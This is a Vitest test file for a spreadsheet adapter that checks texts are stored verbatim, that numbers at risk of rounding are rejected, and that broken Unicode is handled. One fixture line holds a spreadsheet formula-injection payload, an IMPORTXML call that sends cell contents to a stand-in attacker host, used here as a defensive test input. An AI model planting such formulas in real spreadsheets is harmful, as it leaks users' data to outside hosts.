import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { apply, create, HEADER, readAll, TYPES, write } from './sample-writes.ts';
import { bind, type SheetsWorkbench, startWorkbench } from './sheets-workbench.ts';

let bench: SheetsWorkbench;
beforeAll(async () => {
  bench = await startWorkbench();
});
afterEach(() => bench.clearFaults());
afterAll(() => bench.close());

const TEXTS = [
  '=IMPORTXML("http://evil.example/?q="&A1,"//a")',
  '=1+2',
  '+1-800',
  '+491234567',
  '@x',
  '-5 apples',
  "'0123",
  "'",
  '007',
  '1e5',
  '1-2',
  '2026-09-05',
  '31.12.2025',
  '1.234,5',
  '$100.15',
  '12 %',
  'TRUE',
  '12345678901234567',
  ' ',
  '\u200b',
  'line\nbreak\ttab',
  '\u{1f469}\u200d\u{1f4bb}',
];

it('[F4] writes texts as they are, whatever they look like', async () => {
  const tab = await bench.open([HEADER, ['old', 'x']]);
  const table = bind(tab.ref, TYPES, ['code']);
  const added = TEXTS.map((text, i) => create({ code: `n${i}`, name: text }));
  const outcomes = await apply(bench.adapter, table, ...added);
  expect(outcomes.map((each) => ('shown' in each ? each.shown?.name : each))).toEqual(TEXTS);
  let now = 'x';
  for (const text of TEXTS) {
    const update = write('update', 'old', { name: [now, text] });
    expect(await apply(bench.adapter, table, update)).toMatchObject([
      { status: 'written', shown: { name: text } },
    ]);
    now = text;
  }
  expect((await tab.values()).slice(2).map(([, name]) => name)).toEqual(TEXTS);
  const stored = JSON.stringify(await tab.stored());
  expect(stored).not.toContain('formulaValue');
  expect(stored).not.toContain('numberValue');
  const read = await readAll(bench.adapter, table);
  expect(read.slice(1).map(({ cells }) => cells.name)).toEqual(TEXTS);
});

it('[F4] keeps texts that look like keys of another kind apart', async () => {
  const tab = await bench.open([HEADER, ['007', 'text'], ['7', 'digit']]);
  const table = bind(tab.ref, TYPES, ['code']);
  const outcomes = await apply(
    bench.adapter,
    table,
    write('update', '007', { name: ['text', 'Bond'] }),
    create({ code: '=A2', name: 'formula?' }),
    create({ code: "'007", name: 'quoted' }),
  );
  expect(outcomes.map(({ status }) => status)).toEqual(['written', 'written', 'written']);
  expect((await tab.values()).slice(1)).toEqual([
    ['007', 'Bond'],
    ['7', 'digit'],
    ['=A2', 'formula?'],
    ["'007", 'quoted'],
  ]);
});

it('[F6] refuses a number that a sheet would round, and holds it as text', async () => {
  const tab = await bench.open([['code', 'n', 'label']]);
  const table = bind(tab.ref, { code: 'text', n: 'integer', label: 'text' }, ['code']);
  const big = '12345678901234567';
  const outcomes = await apply(
    bench.adapter,
    table,
    create({ code: 'a', n: big }),
    create({ code: 'b', n: '9007199254740991', label: big }),
    create({ code: big }),
  );
  expect(outcomes).toMatchObject([
    { status: 'rejected', rule: 'PRECISION', field: 'n' },
    { status: 'written', shown: { n: '9007199254740991', label: big } },
    { status: 'written', externalId: big },
  ]);
  // What a person types in as a number the sheet has rounded already: it is no value of the row.
  await tab.type('B3', [[12345678901234568]]);
  const read = await readAll(bench.adapter, table);
  expect(read[1]?.problems).toMatchObject([{ field: 'n', rule: 'TYPE' }]);
  expect(read.map(({ externalId }) => externalId)).toEqual(['b', big]);
});

it('[G5] takes half of a surrogate pair for no value, until it is mended', async () => {
  const half = { userEnteredValue: { stringValue: 'x\ud83d' } };
  const text = (stringValue: string) => ({ userEnteredValue: { stringValue } });
  const tab = await bench.open([], {
    cells: [HEADER.map(text), [text('a'), half], [half, text('Bob')]],
  });
  const table = bind(tab.ref, TYPES, ['code']);
  const broken = await readAll(bench.adapter, table);
  expect(broken.map(({ externalId, problems }) => [externalId, problems])).toMatchObject([
    ['a', [{ field: 'name', rule: 'TYPE' }]],
    [null, [{ field: 'code', rule: 'TYPE' }]],
  ]);
  expect(broken[0]?.cells).not.toHaveProperty('name');
  await tab.type('B2', [['x\u{1f600}']]);
  const [mended] = await readAll(bench.adapter, table);
  expect(mended).toMatchObject({ cells: { name: 'x\u{1f600}' }, problems: [] });
  const outcomes = await apply(bench.adapter, table, create({ code: 'c', name: 'y\ud83d' }));
  expect(outcomes).toMatchObject([{ status: 'rejected', rule: 'TYPE', field: 'name' }]);
});
